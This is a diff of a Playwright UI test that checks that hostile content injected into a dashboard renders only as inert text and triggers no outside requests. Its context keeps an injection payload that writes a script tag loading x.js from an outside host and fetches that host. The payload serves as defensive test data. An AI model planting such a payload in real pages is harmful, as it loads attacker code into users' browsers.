@@ -39,10 +39,7 @@ INTRUDE = """(elsewhere) => {
   put(`<script src="http://${elsewhere}/x.js"></` + 'script>');
   fetch(`http://${elsewhere}/`).catch(() => 0);
 }"""
-# What must be read on the way, so that no attack is tested in vain. What a model was asked and answered stands on none
-# of these pages; tests/ui/test_injection.py draws a question and a reply.
-READ = set(PLACES) - {"model", "asked", "answered"}
-WHERE = {"why": "why?asked=setup-evil", "replay": "replay?session=2026-11-19&at=14:00:00"}
+WHERE = {"replay": "replay?session=2026-11-19&at=14:00:00"}
 
 
 @pytest.fixture(scope="module")
@@ -81,14 +78,16 @@ def unharmed(page: Page) -> None:
 def test_no_attack_becomes_anything_but_text(hostile: HostileDashboard, watched: tuple[Page, list[str]]) -> None:
     page, asked = watched
     read: set[str] = set()
-    for path, _, _ in PAGES:
-        address = f"{hostile.address}/{WHERE.get(path, '' if path == 'cockpit' else path)}"
-        page.goto(address, wait_until="commit", timeout=150_000)
+    pages = [WHERE.get(path, "" if path == "cockpit" else path) for path, _, _ in PAGES if path != "why"]
+    for path in (*pages, "why?asked=setup-evil", f"why?asked={hostile.zone}"):
+        page.goto(f"{hostile.address}/{path}", wait_until="commit", timeout=150_000)
         expect(page.locator(".zd-strip")).to_be_visible(timeout=150_000)
         expect(page.get_by_text("halt~").first).to_be_visible(timeout=150_000)
         page.wait_for_function(
             "() => document.querySelector('[data-test-script-state=\"notRunning\"]')", timeout=150_000
         )
+        if path.endswith(hostile.zone):
+            expect(page.get_by_text("answered~").first).to_be_visible(timeout=150_000)
         words = page.evaluate("() => document.body.textContent")
         read |= {place for place in PLACES if f"{place}~" in words}
         unharmed(page)
@@ -98,7 +97,7 @@ def test_no_attack_becomes_anything_but_text(hostile: HostileDashboard, watched:
     expect(page.get_by_test_id("stToast").filter(has_text="alert~").first).to_be_visible(timeout=150_000)
     page.mouse.move(700, 400)
     unharmed(page)
-    assert read >= READ, READ - read
+    assert read == set(PLACES), set(PLACES) - read  # so that no attack is tested in vain
     assert {url for url in asked if not url.startswith((hostile.address, "data:", "blob:", "ws:"))} == set()
 
 
